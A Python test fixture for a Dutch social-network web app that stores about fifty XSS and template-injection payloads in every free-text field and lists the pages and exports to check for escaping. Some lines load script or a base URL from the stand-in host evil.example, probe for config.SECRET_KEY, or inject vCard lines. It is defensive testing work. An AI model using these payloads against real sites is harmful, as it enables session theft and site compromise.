"""XSS payloads stored in every free-text field of netwerk, for tests/web/test_xss.py (fast,
no browser) and tests/e2e/test_xss.py (real Chromium).

Each payload that could run sets ``window.__xss`` (or opens a dialog): the browser test asserts
the sentinel stays undefined and no dialog opens. Every stored value starts with a marker
``XssNN`` so the records can be found by search and told apart.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import date

from sqlalchemy import select

S = "window.__xss=1"

PAYLOADS: list[str] = [
    f"<script>{S}</script>",
    f'<img src=x onerror="{S}">',
    f'<svg onload="{S}">',
    f"<svg><script>{S}</script></svg>",
    f"javascript:{S}",
    f'"><script>{S}</script>',
    f"'><img src=x onerror={S}>",
    f'" onmouseover="{S}" x="',
    f"' onfocus='{S}' autofocus='",
    "{{7*7}} {{ config.SECRET_KEY }}",
    "{% for x in range(3) %}{{x}}{% endfor %} ${7*7} #{7*7}",
    f'<iframe src="javascript:{S}"></iframe>',
    f'<a href="javascript:{S}">klik</a>',
    f"<body onload={S}>",
    f"<details open ontoggle={S}>",
    f"<input autofocus onfocus={S}>",
    f'<div style="background:url(javascript:{S})">css</div>',
    f'<div style="width:expression({S})">css</div>',
    "<style>*{background:red!important}</style>",
    "<link rel=stylesheet href=data:text/css,*{color:red}>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
    f'<object data="data:text/html,<script>{S}</script>"></object>',
    f'<embed src="javascript:{S}">',
    f"&lt;script&gt;{S}&lt;/script&gt;",
    "%3Cscript%3Ewindow.__xss%3D1%3C%2Fscript%3E",
    "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{S}\uff1c/script\uff1e",
    f"<scr<script>ipt>{S}</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<script>alert(document.domain)</script>",
    f"</textarea><script>{S}</script>",
    f"</title><script>{S}</script>",
    f"<!--<img src=x onerror={S}>-->",
    f'<math><mi xlink:href="javascript:{S}">x</mi></math>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{S}">',
    '<base href="//evil.example/">',
    f'<form action="javascript:{S}"><button>go</button></form>',
    f'"];{S};//',
    f"</script><script>{S}</script>",
    f"` onerror={S} `",
    "\\x3cscript\\x3ewindow.__xss=1\\x3c/script\\x3e",
    f"<img src=x:x onerror&#61;{S}>",
    "regel\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:ingevoegd",
    f"<svg><animate onbegin={S} attributeName=x dur=1s>",
    f"\u202egnp.exe<script>{S}</script>\u202c",
    "<img src=//evil.example/pixel.png>",
    f"<noscript><p title=\"</noscript><img src=x onerror={S}>\">",
    f"<a href=\"&#106;avascript:{S}\">x</a>",
    f"<isindex type=image src=1 onerror={S}>",
]


def marked(i: int, payload: str) -> str:
    return f"Xss{i:02d} {payload}"


@dataclass
class PayloadWorld:
    """Ids of the records that carry payload ``i``."""

    people: list[int] = field(default_factory=list)
    organisations: list[int] = field(default_factory=list)
    wijken: list[int] = field(default_factory=list)
    capacities: list[int] = field(default_factory=list)
    cases: list[int] = field(default_factory=list)
    sessions: list[int] = field(default_factory=list)
    gemeente: int = 0
    values: list[str] = field(default_factory=list)


def insert_payloads(session, coordinator_name: str = "Esther Kuipers") -> PayloadWorld:
    """Store every payload in every free-text field (after the demo seed); commits."""
    from netwerk.models import (
        Area,
        AreaKind,
        Attendance,
        BasisKind,
        Capacity,
        CapacityEvent,
        CapacityEventKind,
        CapacityType,
        Case,
        CaseBasis,
        CaseInvolvement,
        Change,
        InvolvementRole,
        Organisation,
        PlanAction,
        Professional,
        RecordReport,
        ReportReason,
        Sector,
        Service,
        Urgency,
        WorkSession,
    )

    coordinator = session.scalar(select(Professional).where(Professional.name == coordinator_name))
    gemeente = session.scalar(select(Area).where(Area.kind == AreaKind.GEMEENTE,
                                                 Area.name == "Nieuwegein"))
    ctype = session.scalar(select(CapacityType).order_by(CapacityType.id))
    world = PayloadWorld(gemeente=gemeente.id)
    for i, payload in enumerate(PAYLOADS):
        value = marked(i, payload)
        world.values.append(value)
        wijk = Area(name=value[:120], kind=AreaKind.WIJK, parent=gemeente)
        org = Organisation(name=value, sector=Sector.WELZIJN, description=value,
                           intake_route=value)
        service = Service(organisation=org, name=value, description=value, intake_route=value,
                          areas=[wijk])
        prof = Professional(name=value, role=value[:120], organisation=org,
                            mobile=f"06{55000000 + i}", caseload_max=10, areas=[wijk])
        session.add_all([wijk, org, service, prof])
        session.flush()
        capacity = Capacity(service=service, area=wijk, capacity_type=ctype, available=1,
                            maximum=3)
        session.add(capacity)
        session.flush()
        session.add(CapacityEvent(capacity_id=capacity.id, kind=CapacityEventKind.SET, delta=0,
                                  available_after=1, maximum_after=3, note=value))
        case = Case(reference=f"XSS-{i:04d}", area=wijk, urgency=Urgency.REGULIER,
                    situation=value, coordinator_id=coordinator.id, lead_reason=value,
                    constraints=[])
        session.add(case)
        session.flush()
        # The consent's "for what" is shown per person and in the case's bases (finding 20).
        basis = CaseBasis(case_id=case.id, kind=BasisKind.TOESTEMMING,
                          consent_given_on=date(2026, 11, 30), consent_scope=value)
        session.add(basis)
        session.flush()
        session.add_all([
            CaseInvolvement(case_id=case.id, professional_id=prof.id,
                            role=InvolvementRole.BETROKKEN, basis_id=basis.id),
            PlanAction(case_id=case.id, professional_id=prof.id, what=value),
        ])
        ws = WorkSession(title=value, date=date(2026, 10, 1), area=gemeente, notes=value)
        session.add(ws)
        session.flush()
        session.add(Attendance(work_session_id=ws.id, professional_id=prof.id))
        # A "klopt niet" remark and a change history entry carrying the payload.
        session.add(RecordReport(professional_id=prof.id, reason=ReportReason.ANDERS,
                                 note=value[:200]))
        session.add(RecordReport(organisation_id=org.id, reason=ReportReason.ANDERS,
                                 note=value[:200]))
        session.add(Change(object_type="professionals", object_id=prof.id, field="role",
                           old=value, new=value[:120]))
        world.people.append(prof.id)
        world.organisations.append(org.id)
        world.wijken.append(wijk.id)
        world.capacities.append(capacity.id)
        world.cases.append(case.id)
        world.sessions.append(ws.id)
    session.commit()
    return world


# Pages of capabilities merged later (network map + work sessions, import/export): included
# only when their route exists in the app, so the same tests cover them after the merge.
OPTIONAL_PAGES = {
    "/werksessies": lambda w: [("/werksessies", [])],
    "/werksessies/groei": lambda w: [("/werksessies/groei", [])],
    "/werksessies/<int:ws_id>": lambda w: [(f"/werksessies/{ws}", [i])
                                           for i, ws in enumerate(w.sessions)],
    "/werksessies/<int:ws_id>/bewerken": lambda w: [(f"/werksessies/{w.sessions[0]}/bewerken",
                                                     [0])],
    "/netwerk": lambda w: [(f"/netwerk?gebied={w.gemeente}", []),
                           (f"/netwerk?gebied={w.gemeente}&niveau=professionals", [])] + [
        (f"/netwerk?gebied={wijk}", []) for wijk in w.wijken[:10]],
    "/import": lambda w: [("/import", [])],
    "/beheer/audit": lambda w: [("/beheer/audit", []), ("/beheer/audit?wie=Xss", [])],
    # "Klopt niet": the queue shows every payload person and organisation with the remark.
    "/verifieren/meldingen": lambda w: [("/verifieren/meldingen", list(range(len(w.values))))],
}
# Exports: parsed back (JSON, XML, CSV); payloads must come back as the same strings.
OPTIONAL_EXPORTS = {
    "/export/hsds.json": "/export/hsds.json",
    "/netwerk/export.graphml": "/netwerk/export.graphml?gebied={gemeente}",
    "/netwerk/export.gexf": "/netwerk/export.gexf?gebied={gemeente}",
    "/netwerk/ontbrekend.csv": "/netwerk/ontbrekend.csv?gebied={gemeente}",
}


def pages(world: PayloadWorld, rules: set[str] = frozenset()) -> list[tuple[str, list[int]]]:
    """(path, indices of the payloads the page must show) for every page that shows them;
    ``rules`` (the app's URL rules) switches on the pages of later capabilities."""
    everyone = list(range(len(world.values)))
    result: list[tuple[str, list[int]]] = [
        ("/zoeken?q=Xss", []),  # a bounded result list: shown payloads are checked as data
        ("/casussen", everyone),
        (f"/plek?wijk={world.gemeente}", []),
        ("/casussen/nieuw", []),
        (f"/wijken/{world.gemeente}", []),
    ]
    for i in everyone:
        result += [
            (f"/personen/{world.people[i]}", [i]),
            (f"/personen/{world.people[i]}/bewerken", [i]),
            (f"/organisaties/{world.organisations[i]}", [i]),
            (f"/wijken/{world.wijken[i]}", [i]),
            (f"/wijken/{world.wijken[i]}/smoelenboek", [i]),
            (f"/plek/{world.capacities[i]}", [i]),
            (f"/plek?wijk={world.wijken[i]}", [i]),
            (f"/casussen/{world.cases[i]}", [i]),
            (f"/smoelenboek/werksessie/{world.sessions[i]}", [i]),
        ]
    for rule, make in OPTIONAL_PAGES.items():
        if rule in rules:
            result += make(world)
    # Last: the home page lists the people just opened (names, roles, organisations).
    result.append(("/", []))
    return result


def exports(world: PayloadWorld, rules: set[str]) -> list[str]:
    return [path.format(gemeente=world.gemeente) for rule, path in OPTIONAL_EXPORTS.items()
            if rule in rules]


def vcards(world: PayloadWorld) -> list[tuple[str, list[int]]]:
    everyone = list(range(len(world.values)))
    ids = "&".join(f"id={p}" for p in world.people)
    return [(f"/personen/{world.people[i]}.vcf", [i]) for i in everyone] + [
        (f"/wijken/{world.wijken[i]}.vcf", [i]) for i in everyone] + [
        (f"/personen.vcf?{ids}", everyone)]
